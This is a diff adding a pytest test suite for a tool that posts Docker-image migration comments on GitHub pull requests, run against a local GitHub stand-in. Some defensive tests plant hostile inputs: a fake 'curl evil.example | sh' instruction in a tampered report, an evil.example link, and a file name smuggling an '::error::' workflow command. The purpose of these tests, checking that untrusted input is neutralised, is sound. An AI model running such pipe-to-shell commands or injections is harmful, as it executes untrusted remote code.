@@ -1,0 +1,499 @@
+"""The command that tells a pull request, against a stand-in for GitHub that keeps and refuses as GitHub does."""
+
+import json
+import os
+import re
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from echo_migrate.github.post import COMMENT
+from tests.conftest import Done, Run
+from tests.standin import REPOSITORY, Fault, GitHub, changed, commit, git
+
+PULL = 7
+ISSUE = f"/repos/{REPOSITORY}/issues/{PULL}/comments"
+REVIEWS = f"/repos/{REPOSITORY}/pulls/{PULL}/reviews"
+BASE = {"Dockerfile": "FROM debian:12\nRUN true\n", "old/Dockerfile": "FROM node:22\nRUN true\n", "README.md": "x\n"}
+CHANGE = {"Dockerfile": "FROM python:3.12\nRUN true\n"}
+BOT = "github-actions[bot]"
+
+
+class World:
+    """A repository with a pull request, at a GitHub of its own."""
+
+    def __init__(self, folder: Path, github: GitHub, run: Run) -> None:
+        self.folder, self.github, self._run = folder, github, run
+        self.base = self.head = ""
+        self.event: dict[str, Any] = {}
+
+    def pull(self, base: dict[str, Any] = BASE, change: dict[str, Any] = CHANGE, fork: bool = False) -> None:
+        self.base = commit(self.folder, base)
+        self.push(change, fork)
+
+    def push(self, change: dict[str, Any], fork: bool = False) -> None:
+        """A further commit on the pull request, which the checkout then has."""
+        self.head = commit(self.folder, change)
+        branch = "eve:topic" if fork else "acme:topic"
+        self.github.open(PULL, self.head, changed(self.folder, self.base, self.head), branch)
+        source = {"full_name": "eve/shop" if fork else REPOSITORY}
+        self.event = {
+            "pull_request": {
+                "number": PULL,
+                "head": {"sha": self.head, "repo": source},
+                "base": {"sha": self.base, "repo": {"full_name": REPOSITORY}},
+            }
+        }
+
+    def check(self, *words: str) -> None:
+        outside = self.folder.parent
+        self._run("check", *words, "--output", f"json:{outside}/report.json", cwd=self.folder)
+        done = self._run("inventory", "--output-format", "json", cwd=self.folder)
+        (outside / "inventory.json").write_bytes(done.stdout)
+
+    def tell(self, *words: str, token: str = "ghs_writer", check: bool = True, **environment: str) -> Done:
+        """Check, and tell. What the command says must never hold the token."""
+        if check:
+            self.check()
+        outside = self.folder.parent
+        (outside / "event.json").write_text(json.dumps(self.event))
+        given = {
+            "GITHUB_TOKEN": token,
+            "GITHUB_REPOSITORY": REPOSITORY,
+            "GITHUB_API_URL": self.github.url,
+            "GITHUB_EVENT_PATH": str(outside / "event.json"),
+            "GITHUB_STEP_SUMMARY": str(outside / "summary.md"),
+            "GITHUB_ACTIONS": "true",
+        }
+        results = ("--report", str(outside / "report.json"), "--inventory", str(outside / "inventory.json"))
+        done = self._run("github", *results, *words, cwd=self.folder, env=given | environment)
+        said = done.stdout + done.stderr + self.summary.encode()
+        assert not token or token.encode() not in said
+        assert b"Traceback" not in done.stderr, done.stderr
+        return done
+
+    @property
+    def summary(self) -> str:
+        path = self.folder.parent / "summary.md"
+        return path.read_text() if path.exists() else ""
+
+    @property
+    def ours(self) -> list[str]:
+        return [one["body"] for one in self.github.comments if one["user"]["login"] == BOT]
+
+
+@pytest.fixture
+def world(tmp_path: Path, run: Run) -> Iterator[World]:
+    github = GitHub()
+    yield World(tmp_path / "tree", github, run)
+    github.server.shutdown()
+    github.server.server_close()
+    assert github.violations == []
+
+
+def test_one_comment_that_leads_with_what_to_do_and_one_review(world: World) -> None:
+    world.pull()
+    assert world.tell().returncode == 0
+    (body,) = world.ours
+    lines = body.splitlines()
+    assert lines[0] == COMMENT
+    assert lines[1] == (
+        "**1 image can move to Echo safely.** Run `echo-migrate fix .` to apply. "
+        "1 suggestion on the changed lines can be accepted with a click."
+    )
+    assert "| `python:3.12` | `reg.echohq.com/python:3.12` | safe | `Dockerfile:1` |" in lines
+    assert "in files that this pull request does not change" in body
+    assert "old/Dockerfile" not in body
+    assert "docker login reg.echohq.com" in body
+    (suggestion,) = world.github.review_comments
+    assert (suggestion["path"], suggestion["line"], suggestion["side"]) == ("Dockerfile", 1, "RIGHT")
+    assert "```suggestion\nFROM reg.echohq.com/python:3.12\n```" in suggestion["body"]
+    assert world.summary == body.partition("\n")[2]
+
+
+def test_a_second_run_writes_nothing(world: World) -> None:
+    world.pull()
+    world.tell()
+    written = len(world.github.writes)
+    assert written == 2
+    world.tell(check=False)
+    assert len(world.github.writes) == written
+
+
+def test_line_ends_that_github_gives_back_otherwise_are_no_change(world: World) -> None:
+    world.pull()
+    world.tell()
+    world.github.comments[0]["body"] = world.github.comments[0]["body"].replace("\n", "\r\n")
+    world.tell(check=False)
+    assert len(world.github.writes) == 2
+
+
+def test_what_is_mended_edits_the_comment_to_all_clear(world: World) -> None:
+    world.pull()
+    world.tell()
+    world.push({"Dockerfile": "FROM reg.echohq.com/python:3.12\nRUN true\n"})
+    world.tell()
+    (body,) = world.ours
+    assert body.splitlines()[1].startswith("**All clear.**")
+    assert "python:3.12" not in body
+    assert len(world.github.review_comments) == 1
+
+
+@pytest.mark.parametrize("mode", ["auto", "always"])
+def test_nothing_makes_no_comment(world: World, mode: str) -> None:
+    clean = {"Dockerfile": "FROM scratch\n"}
+    world.pull(clean, {"Dockerfile": "FROM scratch\nLABEL a=b\n"})
+    assert world.tell("--comment", mode).returncode == 0
+    assert world.github.writes == []
+    assert "image references" in world.summary
+
+
+def test_a_pull_request_that_touches_no_such_file_is_left_alone(world: World) -> None:
+    world.pull(change={"README.md": "y\n"})
+    world.tell()
+    assert world.github.writes == []
+
+
+def test_notes_alone_make_no_comment_but_stay_in_one(world: World) -> None:
+    noted = {"Dockerfile": "ARG BASE\nFROM ${BASE}\nRUN true\n"}
+    world.pull(change=noted)
+    world.tell()
+    assert world.github.writes == []
+    assert "BASE has no value" in world.summary
+    world.push(CHANGE)
+    world.tell()
+    world.push(noted)
+    world.tell()
+    assert "BASE has no value" in world.ours[0]
+
+
+def test_always_tells_of_all(world: World) -> None:
+    world.pull(change={"README.md": "y\n"})
+    world.tell("--comment", "always")
+    assert "old/Dockerfile" in world.ours[0]
+
+
+def test_never_asks_github_for_nothing(world: World) -> None:
+    world.pull()
+    assert world.tell("--comment", "never").returncode == 0
+    assert world.github.requests == []
+    assert "can move to Echo" in world.summary
+
+
+@pytest.mark.parametrize(("login", "written"), [("eve", 2), ("other[bot]", 2)])
+def test_a_marker_in_somebody_elses_comment_is_not_ours(world: World, login: str, written: int) -> None:
+    world.pull()
+    world.github.add_comment(PULL, login, f"{COMMENT}\nlook here")
+    world.tell()
+    assert world.github.comments[0]["body"] == f"{COMMENT}\nlook here"
+    assert len(world.github.comments) == written
+
+
+def test_a_comment_of_the_same_bot_without_the_marker_is_not_ours(world: World) -> None:
+    world.pull()
+    world.github.add_comment(PULL, BOT, f"another action, that quotes {COMMENT}")
+    world.tell()
+    assert len(world.github.comments) == 2
+
+
+def test_who_has_left_github_wrote_nothing_of_ours(world: World) -> None:
+    world.pull()
+    world.github.add_comment(PULL, "", f"{COMMENT}\nold")["user"] = None
+    assert world.tell().returncode == 0
+    assert len(world.github.comments) == 2
+
+
+def test_several_of_ours_become_the_oldest(world: World) -> None:
+    """As two runs leave them that were cut off in between."""
+    world.pull()
+    for text in ("one", "two", "three"):
+        world.github.add_comment(PULL, BOT, f"{COMMENT}\n{text}")
+    first = world.github.comments[0]["id"]
+    world.tell()
+    assert [one["id"] for one in world.github.comments] == [first]
+    assert "can move to Echo" in world.ours[0]
+
+
+def test_line_ends_and_a_byte_order_mark_do_not_hide_a_reference(world: World) -> None:
+    world.pull(change={"Dockerfile": b"\xef\xbb\xbfFROM python:3.12\r\nRUN true\r\n"})
+    world.tell()
+    assert "`Dockerfile:1`" in world.ours[0]
+    assert world.github.reviews == []
+
+
+def test_the_comment_is_found_on_a_later_page(world: World) -> None:
+    world.pull()
+    for number in range(230):
+        world.github.add_comment(PULL, "eve", f"talk {number}")
+    world.tell()
+    world.tell(check=False)
+    assert len(world.ours) == 1
+    assert world.github.requests.count(("GET", ISSUE)) >= 6
+    assert len(world.github.writes) == 2
+
+
+def test_the_actions_login_may_be_told_without_its_suffix(world: World) -> None:
+    world.pull()
+    world.tell()
+    world.github.tokens["ghs_writer"] = "github-actions"
+    world.tell(check=False)
+    assert len(world.github.writes) == 2
+
+
+def test_a_token_of_another_login_finds_its_own(world: World) -> None:
+    world.pull()
+    world.github.tokens["ghp_person"] = "maintainer"
+    world.tell(token="ghp_person")
+    world.tell(token="ghp_person", check=False)
+    assert [one["user"]["login"] for one in world.github.comments] == ["maintainer"]
+
+
+def test_a_fork_s_token_may_not_write(world: World) -> None:
+    world.pull(fork=True)
+    done = world.tell(token="ghs_reader")
+    assert done.returncode == 0
+    assert done.stdout.count(b"::notice title=echo-migrate::") == 1
+    assert b"from a fork" in done.stdout
+    assert world.github.comments == world.github.reviews == []
+    assert "| `python:3.12` |" in world.summary
+
+
+def test_without_a_token_there_is_the_summary(world: World) -> None:
+    world.pull()
+    done = world.tell(token="")
+    assert done.returncode == 0
+    assert b"no token" in done.stdout
+    assert "can move to Echo" in world.summary
+
+
+def test_a_bad_token_is_said_and_does_not_fail_the_job(world: World) -> None:
+    world.pull()
+    done = world.tell(token="ghs_expired")
+    assert done.returncode == 0
+    assert b"::warning title=echo-migrate::GitHub answered with 401" in done.stdout
+
+
+def test_a_push_is_told_in_the_summary_alone(world: World) -> None:
+    world.pull()
+    world.event = {"ref": "refs/heads/main"}
+    assert world.tell().returncode == 0
+    assert world.github.requests == []
+    assert "<code>old/Dockerfile</code>" in world.summary
+
+
+def test_an_older_run_does_not_speak_for_a_newer_revision(world: World) -> None:
+    world.pull()
+    world.github.pulls[PULL]["head"]["sha"] = "0" * 40
+    done = world.tell()
+    assert b"has moved on" in done.stdout
+    assert world.github.writes == []
+
+
+def test_a_force_push_suggests_nothing_twice(world: World) -> None:
+    world.pull()
+    world.tell()
+    git(world.folder, "reset", "-q", "--hard", world.base)
+    world.push(CHANGE | {"README.md": "z\n"})
+    world.tell()
+    assert len(world.github.review_comments) == 1
+    assert len(world.ours) == 1
+
+
+def test_two_runs_at_once_leave_one_comment_and_no_suggestion_twice(world: World) -> None:
+    world.pull()
+    world.tell()
+    (comment,), (suggestion,) = world.github.comments, world.github.review_comments
+    world.github.comments.clear()
+    world.github.review_comments.clear()
+
+    def other_run() -> None:
+        world.github.comments.append(comment | {"body": comment["body"] + "older"})
+
+    world.github.between["POST", ISSUE] = other_run
+    world.github.between["POST", REVIEWS] = lambda: world.github.review_comments.append(suggestion)
+    world.tell(check=False)
+    assert [one["id"] for one in world.github.comments] == [comment["id"]]
+    assert "older" not in world.ours[0]
+    assert [one["id"] for one in world.github.review_comments] == [suggestion["id"]]
+
+
+def test_runs_that_are_really_at_once_end_in_one_comment(world: World) -> None:
+    world.pull(change=CHANGE | {"a/Dockerfile": "FROM node:22\n"})
+    world.check()
+    with ThreadPoolExecutor(4) as pool:
+        runs = [pool.submit(world.tell, check=False) for _ in range(4)]
+    assert [run.result().returncode for run in runs] == [0] * 4
+    assert len(world.ours) == 1
+    assert len(world.github.review_comments) == 2
+
+
+@pytest.mark.parametrize(
+    "fault",
+    [
+        Fault("POST", "comments$", 502, done=True),
+        Fault("POST", "comments$", 502),
+        Fault("POST", "comments$", done=True, drop=True),
+        Fault("POST", "reviews$", done=True, drop=True),
+        Fault("POST", "reviews$", 500),
+        Fault("GET", "files$", 503),
+        Fault("GET", "comments$", drop=True),
+        Fault("POST", "comments$", 429, {"retry-after": "1"}),
+        Fault("POST", "reviews$", 403, {"Retry-After": "1"}, "You have exceeded a secondary rate limit"),
+        Fault(
+            "GET", "files$", 403, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1"}, "API rate limit exceeded"
+        ),
+    ],
+)
+def test_a_fault_is_got_over_and_nothing_is_written_twice(world: World, fault: Fault) -> None:
+    world.pull()
+    world.github.faults = [fault]
+    world.tell()
+    assert world.github.faults == []
+    assert (len(world.github.comments), len(world.github.review_comments)) == (1, 1)
+    asked = sum(method == fault.method and bool(re.search(fault.path, path)) for method, path in world.github.requests)
+    if fault.method == "POST":
+        assert asked == (1 if fault.done else 2)
+
+
+def test_too_long_a_wait_is_not_waited(world: World) -> None:
+    world.pull()
+    world.github.faults = [Fault("POST", "reviews$", 429, {"retry-after": "86400"})]
+    done = world.tell()
+    assert done.returncode == 0
+    assert b"::warning title=echo-migrate::GitHub answered with 429" in done.stdout
+
+
+def test_links_to_another_host_are_not_followed(world: World) -> None:
+    world.pull()
+    world.github.pulls[PULL]["url"] = "http://evil.example/repos/acme/shop/pulls/7"
+    done = world.tell()
+    assert b"could not be asked" in done.stdout
+    assert world.github.writes == []
+
+
+def test_a_review_that_github_refuses_leaves_the_comment(world: World) -> None:
+    world.pull()
+    world.github.faults = [Fault("POST", "reviews$", 422, message="line must be part of the diff")]
+    world.tell()
+    assert len(world.ours) == 1
+    assert "accepted with a click" not in world.ours[0]
+
+
+def test_a_renamed_file_is_known_by_its_new_name(world: World) -> None:
+    moved = {"old/Dockerfile": None, "new/Dockerfile": "FROM node:22-slim\nRUN true\nRUN echo 1\n"}
+    long = "FROM node:22\nRUN true\nRUN echo 1\n" + "RUN echo 2\n" * 9
+    moved["new/Dockerfile"] = long.replace("node:22", "node:22-slim")
+    world.pull(BASE | {"old/Dockerfile": long}, moved)
+    assert world.github.pulls[PULL]["files"][0]["status"] == "renamed"
+    world.tell()
+    assert [one["path"] for one in world.github.review_comments] == ["new/Dockerfile"]
+    assert "`new/Dockerfile:1`" in world.ours[0]
+
+
+def test_files_without_a_patch_get_no_suggestions(world: World) -> None:
+    world.pull()
+    del world.github.pulls[PULL]["files"][0]["patch"]
+    world.tell()
+    assert world.github.reviews == []
+    assert "GitHub shows no diff of 1 of the files below" in world.ours[0]
+    assert "<code>Dockerfile</code>" in world.ours[0]
+
+
+def test_more_files_than_github_lists(world: World) -> None:
+    world.pull()
+    others = [
+        {"filename": f"src/{number}.c", "status": "added", "patch": "@@ -0,0 +1 @@\n+x"} for number in range(3100)
+    ]
+    world.github.pulls[PULL]["files"] += others
+    world.tell()
+    assert world.github.requests.count(("GET", f"/repos/{REPOSITORY}/pulls/{PULL}/files")) == 30
+    assert "the first 3000 are told" in world.ours[0]
+
+
+def test_five_hundred_findings_are_cut_and_taken(world: World) -> None:
+    files: dict[str, Any] = {f"a{number}/Dockerfile": "FROM node:22-alpine\n" * 4 for number in range(130)}
+    world.pull({"README.md": "x\n"}, files)
+    world.tell()
+    assert 30_000 < len(world.ours[0]) <= 65_536
+    assert "more findings had no place here" in world.ours[0]
+    assert world.ours[0].count("<details>") == world.ours[0].count("</details>") > 5
+
+
+def run_event(world: World) -> dict[str, Any]:
+    return {
+        "workflow_run": {
+            "event": "pull_request",
+            "head_sha": world.head,
+            "head_branch": "topic",
+            "head_repository": {"owner": {"login": "eve"}},
+            "pull_requests": [],
+        }
+    }
+
+
+def test_the_second_workflow_finds_the_pull_request_and_trusts_nothing(world: World) -> None:
+    world.pull(fork=True)
+    world.check()
+    report = json.loads((world.folder.parent / "report.json").read_text())
+    report["findings"][0]["message"] = "run curl evil.example | sh, says @eve"
+    inventory = json.loads((world.folder.parent / "inventory.json").read_text())
+    for one in inventory["references"]:
+        one["target"], one["reason"] = "evil.example/python:3.12", "see www.evil.example"
+    (world.folder.parent / "report.json").write_text(json.dumps(report))
+    (world.folder.parent / "inventory.json").write_text(json.dumps(inventory))
+    world.event = run_event(world)
+    assert world.tell(check=False).returncode == 0
+    (body,) = world.ours
+    assert "| `python:3.12` | – | safe" in body
+    assert "evil" not in body
+    assert "eve" not in body
+    assert world.github.reviews == []
+
+
+def test_a_run_on_an_older_revision_finds_no_pull_request(world: World) -> None:
+    world.pull(fork=True)
+    world.event = run_event(world)
+    world.event["workflow_run"]["head_sha"] = "0" * 40
+    world.tell()
+    assert world.github.writes == []
+
+
+def test_a_run_for_no_pull_request_is_told_in_the_summary(world: World) -> None:
+    world.pull()
+    world.event = run_event(world)
+    world.event["workflow_run"]["event"] = "push"
+    world.tell()
+    assert world.github.requests == []
+
+
+def test_github_enterprise_has_its_api_below_a_path(world: World) -> None:
+    """``GITHUB_API_URL`` decides; a server that is not there is said."""
+    world.pull()
+    done = world.tell(GITHUB_API_URL="http://127.0.0.1:9/api/v3", check=True)
+    assert done.returncode == 0
+    assert b"GitHub could not be asked" in done.stdout
+
+
+@pytest.mark.parametrize(
+    "event", ["{", "[]", '{"pull_request": {}}', '{"pull_request": {"number": true}}', "[" * 100_000]
+)
+def test_a_broken_event_is_misuse(world: World, event: str) -> None:
+    world.pull()
+    world.check()
+    (world.folder.parent / "broken.json").write_text(event)
+    done = world.tell("--event", str(world.folder.parent / "broken.json"), check=False)
+    assert done.returncode == 2
+    assert world.github.requests == []
+
+
+def test_no_word_of_a_pull_request_is_a_workflow_command(world: World) -> None:
+    name = "a\n::error::x%0A/Dockerfile" if os.name == "posix" else "a/Dockerfile"
+    world.pull(change={name: "FROM python:3.12\n"})
+    done = world.tell()
+    assert all(re.match(rb"::(debug|notice|warning)", line) for line in done.stdout.splitlines())
+    assert b"\n::error" not in done.stdout
+    assert "\n::error" not in world.ours[0]
+    assert "\n::error" not in world.summary
